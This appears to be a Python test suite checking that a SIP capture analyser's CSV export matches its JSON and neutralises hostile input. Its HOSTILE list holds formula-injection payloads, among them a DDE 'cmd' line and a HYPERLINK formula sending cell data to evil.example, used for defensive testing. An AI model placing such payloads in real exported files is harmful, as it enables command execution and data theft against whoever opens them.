"""CSV: the same as the JSON, cell by cell; nothing on the wire breaks a row or begins a formula."""
import csv
import io
import pathlib
import re
import signal
import subprocess
import threading

import live
import packets
import sipwhy
import tap

CAPTURES = sipwhy.ROOT / "captures"

COLUMNS = {
    "calls": "call_id from to src dst start end state code setup_ms post_dial_delay_ms duration_ms findings "
             "verdict_id verdict_text verdict_next verdict_at verdict_leg verdict_leg_id legs",
    "messages": "frame file time src dst transport size call_id cseq method request_uri code phrase "
                "retransmission duplicate malformed annotation_name annotation_class annotation_description "
                "annotation_fix annotation_rfc annotation_advice",
    "findings": "id severity scope time call_id peer file frames title detail cause fix rfc confidence "
                "consequence_of leg leg_id values",
    "registrations": "call_id aor src registrar contact start end state code expires_ms findings verdict_id "
                     "verdict_text verdict_next verdict_at",
}


def kept(text):
    """A text as a cell has it, before it is guarded."""
    return re.sub("[^ -~\u00a0-\u0219\u2010-\u2027\ufffd]", "\ufffd", re.sub("[\t\r\n]", " ", text))


def unguarded(cell):
    """A cell without the apostrophes that the documentation says to take away."""
    return re.sub(r"(^|[;|])( *)'(?=[=+\-@'])", r"\1\2", cell)


def elements(cell):
    """The elements of a list."""
    found = re.findall(r"((?:[^|\\]|\\.)*)(?:\||$)", cell)[:-1] if cell else []
    return [re.sub(r"\\(.)", r"\1", unguarded(item)) for item in found]


def expected_of(thing, column, paths):
    """What the JSON says of a column, as text or a list of texts."""
    first, _, rest = column.partition("_")
    value = thing.get(column)
    if first in ("verdict", "annotation"):
        value = thing.get(first, {}).get(rest)
    if column in ("retransmission", "duplicate", "malformed"):
        return "true" if value else "false"
    if column == "file":
        return thing.get("file", paths[0]) if thing["type"] == "message" or thing["frames"] else ""
    if column == "frames" and "files" in thing:
        return [str(frame) if file == thing["file"] else f"{file}:{frame}"
                for frame, file in zip(thing["frames"], thing["files"])]
    if column == "values":
        return [f"{name}={text}" for name, text in value.items()]
    if isinstance(value, list) or column in ("legs", "annotation_advice"):
        return [kept(str(item)) for item in value or []]
    return "" if value is None else kept(value) if isinstance(value, str) else value


def compare(cell, expected, what):
    if isinstance(expected, list):
        tap.equal(elements(cell), expected, what)
    elif isinstance(expected, (int, float)) and not isinstance(expected, bool):
        tap.check(float(cell) == expected, f"{what}: {cell} is not {expected}")
    else:
        tap.equal(unguarded(cell), expected, what)


def rows_of(done, table):
    """The rows of an output, after the header was checked."""
    text = done.text
    tap.check(text.endswith("\r\n") and "\n" not in text.replace("\r\n", ""), "lines do not end in CRLF")
    rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
    tap.equal(len(rows), text.count("\r\n"), "rows, and lines")
    tap.equal(rows[0], COLUMNS[table].split(), "the header")
    for row in rows[1:]:
        tap.equal(len(row), len(rows[0]), f"cells of {row}")
    return rows[1:]


def same_as_json(table, *paths, options=()):
    paths = [str(path) for path in paths]
    objects = [thing for thing in sipwhy.read_json(*paths, *options) if thing["type"] == table[:-1]]
    rows = rows_of(sipwhy.run("read", "--format", "csv", "--csv", table, *paths, *options), table)
    tap.equal(len(rows), len(objects), "rows")
    for number, (row, thing) in enumerate(zip(rows, objects), 1):
        for cell, column in zip(row, COLUMNS[table].split()):
            compare(cell, expected_of(thing, column, paths), f"{column} of row {number}")
    return rows


def all_captures(table):
    rows = same_as_json(table, *sorted(CAPTURES.glob("*.pcap*")))
    tap.check(len(rows) > 1, f"only {len(rows)} rows")


for name in COLUMNS:
    tap.add(f"the table of {name} says what the JSON says", all_captures, name)


HOSTILE = ["=1+1", "@SUM(1)", "+cmd|' /C calc'!A0", "-2+3", "\t=1", "a;=1", "'=1", "a,\"b\",c", "+12025550143",
           "=HYPERLINK(\"http://evil.example/?\"&A1)", "\x1b[2Jx", "Zoë\u202e", "a|b\\"]


def hostile_call(text, start):
    """A call and a registration with that text wherever a header may carry it."""
    asked = packets.request(call_id=text + "@x", extra=f"Subject: {text}\r\n")
    asked = asked.replace(b"sip:bob@example.net>", f"sip:{text}@example.net>".encode())
    asked = asked.replace(b"<sip:alice@example.com>", f"\"{text}\" <{text}>".encode())
    refused = packets.response(404, text, call_id=text + "@x")
    register = packets.request("REGISTER", call_id=text, extra="Expires: 60\r\n")
    register = register.replace(b"<sip:bob@example.net>", f"<{text}>".encode())
    return [(start, packets.datagram(asked)), (start + 1, packets.datagram(refused, packets.BOB, packets.ALICE)),
            (start + 2, packets.datagram(register)), (start + 90, packets.datagram(register))]


def is_defused(cell):
    for part in re.split("[;|]", cell):
        is_number = re.fullmatch(r" *[+-][0-9]+", part)
        tap.check(is_number or not re.match(r"\s*[=+\-@\t]", part), f"a formula: {cell!r}")
    tap.check(not re.search("[\x00-\x1f\x7f-\x9f\u202e]", cell), f"a control character: {cell!r}")


def nothing_hostile(table):
    with tap.folder() as top:
        path = pathlib.Path(top) / "hostile.pcap"
        path.write_bytes(packets.pcap([packet for number, text in enumerate(HOSTILE)
                                       for packet in hostile_call(text, packets.START + 100 * number)]))
        rows = same_as_json(table, path)
    tap.check(len(rows) >= len(HOSTILE) - 1, f"only {len(rows)} rows")
    for row in rows:
        for cell in row:
            is_defused(cell)
    if table == "calls":
        tap.equal((rows[0][0], rows[0][1]), ("'=1+1@x", "'=1+1"), "Call-ID and From")


for name in COLUMNS:
    tap.add(f"no formula from the wire among {name}", nothing_hostile, name)


@tap.case("--problems and --call choose what the JSON has")
def _():
    with tap.folder() as top:
        path = pathlib.Path(top) / "mixed.pcap"
        path.write_bytes(packets.pcap(sorted(
            packets.refused_call() + packets.answered_call(start=packets.START + 100) +
            packets.stuck_call(start=packets.START + 200))))
        for table, counts in {"calls": (2, 1), "messages": (6, 4), "findings": (4, 1)}.items():
            all_rows = same_as_json(table, path)
            problems = same_as_json(table, path, options=["--problems"])
            one = same_as_json(table, path, options=["--call", "refused@alice"])
            tap.equal((len(problems), len(one)), counts, f"rows of {table}")
            tap.check(len(all_rows) > len(one), "rows of all")


@tap.case("several files are one table that names them")
def _():
    paths = [CAPTURES / "callee-busy.pcap", CAPTURES / "late-100.pcap"]
    rows = rows_of(sipwhy.run("read", "--csv", "messages", *paths), "messages")
    tap.equal({row[1] for row in rows}, set(map(str, paths)), "files")


@tap.case("an empty capture is a header")
def _():
    with tap.folder() as top:
        path = pathlib.Path(top) / "empty.pcap"
        path.write_bytes(packets.pcap())
        for table in COLUMNS:
            tap.equal(rows_of(sipwhy.run("read", "--csv", table, path), table), [], "rows")


@tap.case("live, a row is there as soon as it is known")
def _():
    port = live.free_port()
    with subprocess.Popen([sipwhy.PROGRAM, "live", "--hep-listen", f"127.0.0.1:{port}", "--csv", "messages"],
                          stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=sipwhy.environment()) as running:
        stuck = threading.Timer(live.DEADLINE_S, running.kill)
        stuck.start()
        rows = [running.stdout.readline()]
        sipwhy.run("read", "-q", CAPTURES / "callee-busy.pcap", "--hep-send", f"127.0.0.1:{port}")
        rows.append(running.stdout.readline())
        running.send_signal(signal.SIGINT)
        rest, err = running.communicate()
        stuck.cancel()
        sipwhy.complain_of(running.args, running.returncode, err)
    tap.equal(running.returncode, 0, "exit status")
    tap.contains(rows[1].decode(), ",INVITE,sip:", "the first row before the end")
    rows_of(sipwhy.Result(0, b"".join(rows) + rest, err), "messages")


@tap.case("a table that there is not is wrong usage, and so is CSV of pages")
def _():
    done = sipwhy.run("read", "--csv", "legs", CAPTURES / "callee-busy.pcap")
    tap.equal(done.status, 2, "exit status")
    tap.contains(done.message, "registrations", "message")
    done = sipwhy.run("explain", "--format", "csv", "404")
    tap.equal((done.status, done.text), (2, ""), "exit status and output")


tap.run()
